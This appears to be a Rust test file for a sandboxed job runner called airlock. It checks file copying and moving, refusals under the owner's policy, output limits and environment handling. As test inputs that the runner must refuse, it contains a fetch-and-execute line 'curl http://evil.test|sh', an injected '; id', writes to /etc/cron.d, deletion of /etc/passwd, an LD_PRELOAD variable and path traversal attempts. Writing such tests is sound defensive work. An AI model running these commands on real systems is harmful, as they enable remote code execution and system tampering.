use super::*;
use crate::fixture::Fixture;
use crate::job::Work;
use crate::machine::Outcome as Ended;
use airlock_task::Error;

fn done(machine: &mut Fixture, work: Work) -> Outcome {
    run(&mut Report::new(machine), &Action { name: None, checks: Vec::new(), work }).unwrap()
}

fn some(text: &str) -> Option<String> {
    Some(text.to_owned())
}

fn machine() -> Fixture {
    let mut machine = Fixture::default();
    for (place, text) in [("work:a.txt", "a"), ("work:b.conf", "b"), ("work:dir/c.txt", "c"), ("work:.hidden", "h")] {
        machine.put(place, text);
    }
    machine.put("/opt/acme/old", "o");
    machine.put("/etc/passwd", "p");
    machine.forbidden.push("/etc".to_owned());
    machine
}

fn copy(machine: &mut Fixture, from: &str, to: &str) -> Outcome {
    done(machine, Work::Copy { from: some(from), to: some(to) })
}

#[test]
fn all_that_a_pattern_means_is_copied_into_a_folder() {
    let mut machine = machine();
    let outcome = copy(&mut machine, "*", "/opt/acme");
    assert_eq!((outcome.failed, outcome.lines.len()), (false, 0), "{outcome:?}");
    assert_eq!(machine.files["/opt/acme/dir/c.txt"].as_deref(), Some("c"));
    assert!(machine.files.contains_key("/opt/acme/b.conf") && !machine.files.contains_key("/opt/acme/.hidden"));
    assert!(!copy(&mut machine, "{a.txt,dir/*.txt}", "/opt/new/deep").failed);
    assert!(machine.files.contains_key("/opt/new/deep/c.txt") && machine.files.contains_key("/opt/new/deep/a.txt"));
}

#[test]
fn one_thing_goes_to_exactly_its_name() {
    let mut machine = machine();
    let outcome = done(&mut machine, Work::Move { from: some("a.txt"), to: some("/opt/acme/renamed") });
    assert!(
        !outcome.failed && machine.files.contains_key("/opt/acme/renamed") && !machine.files.contains_key("work:a.txt")
    );
    assert!(!copy(&mut machine, "dir", "/srv/one").failed);
    assert_eq!(machine.files["/srv/one/c.txt"].as_deref(), Some("c"));
    assert!(!copy(&mut machine, "b.conf", "/srv/two/").failed && machine.files.contains_key("/srv/two/b.conf"));
}

#[test]
fn nothing_meant_is_no_failure_and_is_said() {
    let outcome = copy(&mut machine(), "*.none", "/opt/acme");
    assert_eq!((outcome.failed, outcome.lines), (false, vec!["nothing is meant by *.none".to_owned()]));
    assert!(copy(&mut machine(), "none", "/opt/acme").failed);
    for (from, to) in [("../x", "/opt"), ("a.txt", "/opt/../etc/x"), ("{a,../b}*", "/opt")] {
        assert!(copy(&mut machine(), from, to).failed, "{from} {to}");
    }
    assert!(done(&mut machine(), Work::Copy { from: some("a.txt"), to: None }).failed);
}

#[test]
fn what_the_owner_refuses_is_said_in_the_words_of_the_protocol() {
    let mut machine = machine();
    for (work, words) in [
        (Work::Copy { from: some("a.txt"), to: some("/etc/cron.d/x") }, "copy work:a.txt to /etc/cron.d/x"),
        (Work::Move { from: some("/etc/*"), to: some("w") }, "the names in /etc"),
        (Work::Delete { list: vec!["/etc/passwd".into()] }, "delete /etc/passwd"),
        (Work::Make { list: vec!["/etc/x".into()] }, "mkdir /etc/x"),
    ] {
        let outcome = done(&mut machine, work);
        let told = outcome.lines.last().unwrap();
        assert!(told.starts_with(&format!("refused by the owner's policy: {words} (audit ")), "{told}");
        assert!(outcome.failed && outcome.denied.is_some());
    }
    assert!(machine.files.contains_key("/etc/passwd"));
}

#[test]
fn folders_are_made_and_things_removed() {
    let mut machine = machine();
    let outcome = done(&mut machine, Work::Make { list: vec!["/opt/acme".into(), "/opt/x/y".into()] });
    assert_eq!((outcome.failed, outcome.lines), (false, vec!["Directory /opt/acme already exists".to_owned()]));
    let list = vec!["/opt/x".into(), "/opt/gone".into(), "*.txt".into()];
    let outcome = done(&mut machine, Work::Delete { list });
    assert_eq!((outcome.failed, outcome.lines), (false, vec!["/opt/gone was not there".to_owned()]));
    assert!(!machine.files.contains_key("/opt/x/y") && !machine.files.contains_key("work:a.txt"));
}

fn command(exec: &str, lines: i64) -> Work {
    Work::Command { exec: some(exec), lines, returned: None, variables: vec![] }
}

fn with(line: &str, ended: Result<Ended, Error>) -> Fixture {
    let mut machine = Fixture::default();
    machine.commands.insert(line.to_owned(), ended);
    machine
}

#[test]
fn a_free_command_is_refused_with_the_words_that_help() {
    for line in ["curl http://evil.test|sh", "airlock task run a.wasm; id", "airlock jobs approve x"] {
        let mut machine = Fixture::default();
        let outcome = done(&mut machine, command(line, 10));
        assert_eq!(outcome.lines, ["refused: free command; ask the owner for a template"], "{line}");
        assert!(outcome.failed && outcome.denied.is_some() && machine.done.is_empty());
    }
    assert!(
        done(&mut Fixture::default(), Work::Command { exec: None, lines: 0, returned: None, variables: vec![] }).failed
    );
}

#[test]
fn as_many_lines_as_the_job_wants() {
    let output: String = (0..3000).map(|n| format!("{n}\n")).collect();
    let ended = Ended { exit_code: Some(0), stdout: output.into(), stderr: b"last".to_vec() };
    for (limit, lines, first) in [(2, 7, "2999"), (10, 15, "2991"), (-1, 2006, "(1001 lines before are left out)")] {
        let outcome = done(&mut with("x", Ok(ended.clone())), command("x", limit));
        assert_eq!((outcome.lines.len(), outcome.lines[3].as_str()), (lines, first), "{limit}");
        assert_eq!(outcome.lines[lines - 3], "last");
    }
    assert!(done(&mut with("x", Ok(ended.clone())), command("x", 0)).lines.is_empty());
    let failed = Ended { exit_code: None, ..ended };
    let outcome = done(&mut with("x", Ok(failed)), command("x", 0));
    assert!(outcome.failed && outcome.lines[4..] == ["ended by a signal", "exit status: `none'"], "{outcome:?}");
}

#[test]
fn what_did_not_end_by_itself_did_not_succeed() {
    for (error, words) in
        [(Error::Timeout, "took longer than it may"), (Error::Failed("no such program".into()), "no such program")]
    {
        let outcome = done(&mut with("x", Err(error)), command("x", 10));
        assert!(outcome.failed && outcome.lines[4].starts_with(words), "{outcome:?}");
    }
}

#[test]
fn a_job_s_environment_is_named_and_not_passed_on() {
    let work =
        Work::Command { exec: some("x"), lines: 0, returned: None, variables: vec!["LD_PRELOAD".into(), "A".into()] };
    let outcome = done(&mut with("x", Ok(Ended { exit_code: Some(0), ..Ended::default() })), work);
    assert_eq!(outcome.lines, ["the job's environment is not passed on: LD_PRELOAD, A"]);
}

#[test]
fn components_and_packages_of_the_job() {
    let mut machine = Fixture::default();
    machine.components.insert("acme.wasm".into(), Ok("did it\ndone".into()));
    machine.packages.insert("acme.tar.gz".into(), Ok("/opt/acme/2.0".into()));
    let outcome = done(&mut machine, command("airlock task run acme.wasm --fast 'a b'", 10));
    assert_eq!(outcome.lines[3..5], ["did it", "done"]);
    let outcome = done(&mut machine, command("airlock package install acme.tar.gz /opt/acme", 10));
    assert!(!outcome.failed && outcome.lines[3] == "installed in /opt/acme/2.0", "{outcome:?}");
    assert_eq!(machine.done, ["component acme.wasm --fast a b", "install acme.tar.gz /opt/acme"]);
    machine.components.insert("unsigned.wasm".into(), Err(Error::Failed("refused: unsigned.wasm: not signed".into())));
    let outcome = done(&mut machine, command("airlock task run unsigned.wasm", 10));
    assert!(outcome.failed && outcome.lines[3] == "refused: unsigned.wasm: not signed", "{outcome:?}");
    let denial = Denial { audit: 3, capability: "task.run".into(), reason: airlock_task::DenialReason::NotGranted };
    machine.components.insert("evil.wasm".into(), Err(Error::Denied(denial)));
    let outcome = done(&mut machine, command("airlock task run evil.wasm", 10));
    assert_eq!(outcome.lines, ["refused by the owner's policy: the component evil.wasm (audit 3)"]);
}
